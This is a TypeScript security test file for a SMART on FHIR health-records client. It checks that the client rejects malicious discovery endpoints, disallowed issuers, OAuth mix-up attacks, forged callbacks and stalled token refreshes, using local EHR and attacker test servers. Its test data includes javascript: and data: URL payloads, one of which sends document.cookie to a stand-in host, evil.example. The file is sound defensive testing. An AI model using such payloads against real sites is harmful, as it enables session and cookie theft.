/**
 * SMART client attacks from issue 13, each against real servers on 127.0.0.1 (an EHR and an
 * attacker, test/security/smart-servers.ts), and what must stay held: the launch URL is never a
 * `javascript:`/`data:`/plain-http URL, the `iss` allowlist, the OAuth mix-up (RFC 9207 and
 * endpoint consistency), a forged callback, and shared token requests no single caller aborts.
 */
import { generateKeyPair } from 'jose';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { AuthError, createHealthClient } from '@vnhealth/core';
import {
  backendServices,
  completeAuthorization,
  launchFromUrl,
  memoryStorage,
  type SmartAppOptions,
} from '@vnhealth/core/smart';
import { startAttacker, startEhr, type Attacker, type Ehr } from './smart-servers.ts';

let ehr: Ehr;
let attacker: Attacker;
const PENDING = 'vnhealth.smart.pending';
const app = {
  clientId: 'portal',
  redirectUri: 'http://127.0.0.1:1/callback',
  scope: 'launch/patient patient/*.rs offline_access',
} satisfies Omit<SmartAppOptions, 'fhirBaseUrl'>;
const launchUrl = (iss: string) =>
  `http://127.0.0.1:1/launch?iss=${encodeURIComponent(iss)}&launch=xyz`;

beforeAll(async () => {
  [ehr, attacker] = await Promise.all([startEhr(), startAttacker()]);
});
afterAll(() => Promise.all([ehr?.close(), attacker?.close()]));
beforeEach(() => {
  attacker.received.length = 0;
  attacker.forwardAuthorizeTo = undefined;
  Object.assign(ehr, { tokenDelayMs: 0, expiresIn: 3600, reusedRefreshTokens: 0 });
});

/** Follow the EHR's (and any forwarding) redirects without a browser; the callback URL. */
async function signIn(url: URL | string): Promise<URL> {
  for (let next = new URL(url); ;) {
    const response = await fetch(next, { redirect: 'manual' });
    expect(response.status).toBe(302);
    next = new URL(response.headers.get('location')!, next);
    if (next.origin === 'http://127.0.0.1:1') return next;
  }
}

/** An `AuthError` whose message names `field` and carries none of `secrets`. */
async function refused(promise: Promise<unknown>, field: RegExp, secrets: string[] = []) {
  const error = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(AuthError);
  expect((error as Error).message).toMatch(field);
  for (const secret of secrets) expect((error as Error).message).not.toContain(secret);
}

async function session(options: Partial<SmartAppOptions> = {}) {
  const stateStorage = memoryStorage();
  const url = await launchFromUrl(launchUrl(ehr.fhirBaseUrl), { ...app, stateStorage, ...options });
  return completeAuthorization(await signIn(url), { ...app, stateStorage, ...options });
}

describe('discovery endpoints: https: or loopback http:, nothing else', () => {
  const good = () => ({
    issuer: attacker.origin,
    authorization_endpoint: `${attacker.origin}/authorize`,
    token_endpoint: `${attacker.origin}/token`,
  });
  it.each([
    [
      'authorization_endpoint',
      'javascript:alert(sessionStorage.getItem("vnhealth.smart.pending"))',
    ],
    ['authorization_endpoint', 'JavaScript:fetch("//evil.example/"+document.cookie)'],
    ['authorization_endpoint', 'data:text/html,<script>alert(1)</script>'],
    ['authorization_endpoint', 'http://ehr.example.vn/authorize'],
    ['authorization_endpoint', 'http://user:pw@127.0.0.1/authorize'],
    ['authorization_endpoint', '/relative/authorize'],
    ['token_endpoint', 'javascript:alert(1)'],
    ['token_endpoint', 'http://ehr.example.vn/token'],
    ['issuer', 'data:,x'],
  ])('%s = %s: launchFromUrl rejects and stores nothing', async (field, value) => {
    attacker.discovery = { ...good(), [field]: value };
    const stateStorage = memoryStorage();
    await refused(
      launchFromUrl(launchUrl(attacker.fhirBaseUrl), { ...app, stateStorage }),
      new RegExp(field),
      [value],
    );
    expect(await stateStorage.getItem(PENDING)).toBeNull();
    expect(attacker.received.map((r) => r.path)).toEqual(['/fhir/.well-known/smart-configuration']);
  });

  it('a clean document on loopback gives an authorization URL on its origin', async () => {
    attacker.discovery = good();
    const url = await launchFromUrl(launchUrl(attacker.fhirBaseUrl), {
      ...app,
      stateStorage: memoryStorage(),
    });
    expect(url.origin).toBe(attacker.origin);
  });

  it.each([
    'http://ehr.example.vn/fhir',
    'http://10.0.0.5/fhir',
    'javascript:alert(1)//',
    'data:application/json,{}',
    'ftp://127.0.0.1/fhir',
  ])('iss = %s is refused before any request', async (iss) => {
    let requests = 0;
    const counting: typeof fetch = (...args) => (requests++, fetch(...args));
    await refused(launchFromUrl(launchUrl(iss), { ...app, fetch: counting }), /\biss\b/);
    expect(requests).toBe(0);
  });
});

describe('allowedIssuers', () => {
  it('refuses an iss not on the list before fetching its discovery', async () => {
    attacker.discovery = {
      authorization_endpoint: `${attacker.origin}/authorize`,
      token_endpoint: `${attacker.origin}/token`,
    };
    await refused(
      launchFromUrl(launchUrl(attacker.fhirBaseUrl), {
        ...app,
        allowedIssuers: [ehr.fhirBaseUrl],
        stateStorage: memoryStorage(),
      }),
      /allowedIssuers/,
    );
    expect(attacker.received).toEqual([]);
  });

  it('signs in to an iss on the list (trailing slashes do not matter)', async () => {
    const signedIn = await session({ allowedIssuers: [`${ehr.fhirBaseUrl}/`] });
    expect(signedIn.patient).toBe('vnh-pt-001');
  });
});

describe('OAuth mix-up', () => {
  it('authorization endpoint at the EHR, token endpoint at the attacker: refused at launch', async () => {
    for (const issuer of [ehr.origin, attacker.origin, undefined]) {
      attacker.discovery = {
        ...(issuer ? { issuer } : {}),
        authorization_endpoint: `${ehr.origin}/authorize`,
        token_endpoint: `${attacker.origin}/token`,
      };
      await refused(
        launchFromUrl(launchUrl(attacker.fhirBaseUrl), { ...app, stateStorage: memoryStorage() }),
        /token_endpoint|issuer/,
      );
    }
    expect(attacker.received.filter((r) => r.path === '/token')).toEqual([]);
  });

  it('the attacker forwards the sign-in to the EHR: the EHR iss on the callback is refused (RFC 9207)', async () => {
    attacker.discovery = {
      issuer: attacker.origin,
      authorization_endpoint: `${attacker.origin}/authorize`,
      token_endpoint: `${attacker.origin}/token`,
    };
    attacker.forwardAuthorizeTo = `${ehr.origin}/authorize`;
    const stateStorage = memoryStorage();
    const url = await launchFromUrl(launchUrl(attacker.fhirBaseUrl), { ...app, stateStorage });
    const callback = await signIn(url);
    expect(callback.searchParams.get('iss')).toBe(ehr.origin);
    await refused(completeAuthorization(callback, { ...app, stateStorage }), /RFC 9207/, [
      callback.searchParams.get('code')!,
    ]);
    expect(attacker.received.filter((r) => r.path === '/token')).toEqual([]);
  });

  it('the EHR promises iss on its responses: a callback without it is refused', async () => {
    const stateStorage = memoryStorage();
    const url = await launchFromUrl(launchUrl(ehr.fhirBaseUrl), { ...app, stateStorage });
    const callback = await signIn(url);
    callback.searchParams.delete('iss');
    await refused(completeAuthorization(callback, { ...app, stateStorage }), /issuer/);
  });
});

describe('a forged callback', () => {
  it('with a wrong state is refused and the real callback still signs in', async () => {
    const stateStorage = memoryStorage();
    const url = await launchFromUrl(launchUrl(ehr.fhirBaseUrl), { ...app, stateStorage });
    const forged = new URL(app.redirectUri);
    forged.search = new URLSearchParams({ code: 'attacker-code', state: 'forged' }).toString();
    await refused(completeAuthorization(forged, { ...app, stateStorage }), /state/);
    const real = await completeAuthorization(await signIn(url), { ...app, stateStorage });
    expect(real.patient).toBe('vnh-pt-001');
    // Used once: the same callback again finds nothing pending.
    expect(await stateStorage.getItem(PENDING)).toBeNull();
  });
});

describe('shared token requests', () => {
  it('20 concurrent reads near expiry: one refresh (held)', async () => {
    ehr.expiresIn = 10; // within the 30 s refresh window
    const signedIn = await session();
    const { fhir } = createHealthClient({
      baseUrl: ehr.fhirBaseUrl,
      token: signedIn.token,
      validation: 'off',
      autoBatch: false, // each read asks the session for its token, with its own signal
    });
    ehr.expiresIn = 3600; // the refreshed token is not near expiry
    const before = ehr.refreshes;
    const read = await Promise.all(
      Array.from({ length: 20 }, () => fhir.read('Patient', 'vnh-pt-001', { cache: 'no-store' })),
    );
    expect(read.map((p) => p.id)).toEqual(Array(20).fill('vnh-pt-001'));
    expect(ehr.refreshes - before).toBe(1);
  });

  it('the caller that started a refresh aborts: the others get the token and the rotation is kept', async () => {
    ehr.expiresIn = 10;
    const signedIn = await session();
    const { fhir } = createHealthClient({
      baseUrl: ehr.fhirBaseUrl,
      token: signedIn.token,
      validation: 'off',
      autoBatch: false, // each read asks the session for its token, with its own signal
    });
    ehr.expiresIn = 3600; // the refreshed token is not near expiry
    ehr.tokenDelayMs = 300;
    const before = ehr.refreshes;
    const leaving = new AbortController(); // an element that disconnects
    const first = fhir.read('Patient', 'vnh-pt-001', { signal: leaving.signal, cache: 'no-store' });
    // Other patients, so that no read shares the first one's request.
    const others = Array.from({ length: 5 }, (_, i) =>
      fhir.read('Patient', `vnh-pt-00${i + 2}`, { cache: 'no-store' }),
    );
    setTimeout(() => leaving.abort(), 100);
    await expect(first).rejects.toThrow();
    const read = await Promise.all(others);
    expect(read.map((p) => p.id)).toEqual([
      'vnh-pt-002',
      'vnh-pt-003',
      'vnh-pt-004',
      'vnh-pt-005',
      'vnh-pt-006',
    ]);
    expect(ehr.refreshes - before).toBe(1);
    // The rotated refresh token was kept: the next refresh works.
    ehr.tokenDelayMs = 0;
    await signedIn.refresh();
    expect(ehr.refreshes - before).toBe(2);
    expect(ehr.reusedRefreshTokens).toBe(0);
  });

  it('an explicit refresh(signal) that aborts does not lose the rotated token', async () => {
    const signedIn = await session();
    ehr.tokenDelayMs = 200;
    const before = ehr.refreshes;
    await expect(signedIn.refresh(AbortSignal.timeout(50))).rejects.toThrow();
    const token = await signedIn.refresh(); // joins the same request
    expect(token).toMatch(/^at-/);
    expect(ehr.refreshes - before).toBe(1);
    ehr.tokenDelayMs = 0;
    await signedIn.refresh();
    expect(ehr.reusedRefreshTokens).toBe(0);
  });

  it('Backend Services: one caller aborting does not fail the shared token request', async () => {
    const { privateKey } = await generateKeyPair('ES384');
    const auth = backendServices({
      fhirBaseUrl: ehr.fhirBaseUrl,
      clientId: 'his-sync',
      privateKey,
      kid: 'k1',
    });
    // The provider as the transport calls it: `{ signal }` of each request.
    const token = auth.token as (request: { signal?: AbortSignal }) => Promise<string>;
    ehr.tokenDelayMs = 300;
    const before = ehr.clientCredentials;
    const leaving = new AbortController();
    const first = token({ signal: leaving.signal });
    const others = Array.from({ length: 3 }, () => token({}));
    setTimeout(() => leaving.abort(), 100);
    await expect(first).rejects.toThrow();
    const tokens = await Promise.all(others);
    expect(new Set(tokens).size).toBe(1);
    expect(tokens[0]).toMatch(/^at-/);
    expect(ehr.clientCredentials - before).toBe(1);
    expect(await token({})).toBe(tokens[0]);
  });

  it('a token endpoint that never answers: the shared refresh fails at its timeout, the next one works', async () => {
    const signedIn = await session({ timeout: 300 });
    ehr.tokenDelayMs = 5_000; // far beyond the timeout
    const before = ehr.refreshes;
    const started = Date.now();
    const waiting = Array.from({ length: 3 }, () => signedIn.refresh());
    for (const refresh of waiting) await refused(refresh, /Refreshing the access token failed/);
    expect(Date.now() - started).toBeLessThan(3_000);
    ehr.tokenDelayMs = 0;
    // No refresh stays pending: the next one starts afresh and signs in again.
    await expect(signedIn.refresh()).resolves.toMatch(/^at-/);
    expect(ehr.refreshes - before).toBeGreaterThanOrEqual(1);
  });

  it('Backend Services: a token endpoint that never answers fails at the timeout, not never', async () => {
    const { privateKey } = await generateKeyPair('ES384');
    const auth = backendServices({
      fhirBaseUrl: ehr.fhirBaseUrl,
      clientId: 'his-stall',
      privateKey,
      kid: 'k1',
      timeout: 300,
    });
    ehr.tokenDelayMs = 5_000;
    const started = Date.now();
    await refused(auth.fetchToken(), /backend services token request/);
    expect(Date.now() - started).toBeLessThan(3_000);
    ehr.tokenDelayMs = 0;
    await expect(auth.fetchToken()).resolves.toMatchObject({
      accessToken: expect.stringMatching(/^at-/),
    });
  });

  it('Backend Services: a tokenEndpoint that is not https: is refused', () => {
    expect(() =>
      backendServices({
        tokenEndpoint: 'http://ehr.example.vn/token',
        clientId: 'his-sync',
        privateKey: {} as JsonWebKey,
        kid: 'k1',
      }),
    ).toThrow(/tokenEndpoint/);
  });
});
